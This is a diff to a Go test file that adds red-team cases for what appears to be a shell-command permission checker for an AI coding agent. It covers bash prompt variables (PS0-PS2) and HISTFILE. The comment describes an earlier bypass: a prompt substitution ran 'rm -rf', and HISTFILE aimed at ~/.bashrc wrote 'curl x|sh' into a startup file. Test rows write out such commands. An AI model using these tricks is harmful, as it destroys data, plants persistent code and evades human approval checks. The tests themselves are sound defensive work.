@@ -172,3 +172,23 @@ func TestRedTeamSocatCommandS56(t *testing.T) {
 		{"S56 neighbour: socat between sockets and files", A, nil, `socat - TCP:localhost:8080 && socat -u FILE:a.txt STDOUT && socat UNIX-CONNECT:/tmp/s -`, Allow},
 	})
 }
+
+// TestRedTeamPromptHistoryS56: an interactive bash (bash -i, fed its
+// commands) expands PS0, PS1 and PS2 before and between its commands,
+// substitutions and all, and writes what it ran to HISTFILE when it
+// ends: PS1='$(rm -rf ~/x)' bash -i <<< ” ran the rm, and HISTFILE=~/.bashrc
+// bash -i <<< 'curl x|sh' wrote a start-up file, allowed. PS0-PS2 set to a
+// substitution now ask as PS4 does; HISTFILE set to a file other than
+// /dev/null is a write of it.
+func TestRedTeamPromptHistoryS56(t *testing.T) {
+	t.Parallel()
+	D, A := ModeDefault, ModeAcceptEdits
+	checkDecisions(t, []decisionRow{
+		{"S56 PS1 substitution", D, nil, `PS1='$(rm -rf ~/x)' bash -i <<< ''`, Ask},
+		{"S56 export PS0 substitution", A, nil, `export PS0='$(rm -rf ~/x)'; bash -i <<< ls`, Ask},
+		{"S56 PS2 backquotes", D, nil, "PS2='`touch ~/x`' bash -i <<< ls", Ask},
+		{"S56 HISTFILE=~/.bashrc", A, nil, `HISTFILE=~/.bashrc bash -i <<< ls`, Ask},
+		{"S56 export HISTFILE outside", D, nil, `export HISTFILE=/tmp/h; bash -i <<< ls`, Ask},
+		{"S56 neighbour: a plain prompt, history off or in the project", A, nil, `PS1='$ ' bash -i <<< ls && HISTFILE=/dev/null bash -i <<< ls && HISTFILE= bash -i <<< ls && HISTFILE=.hist bash -i <<< ls`, Allow},
+	})
+}
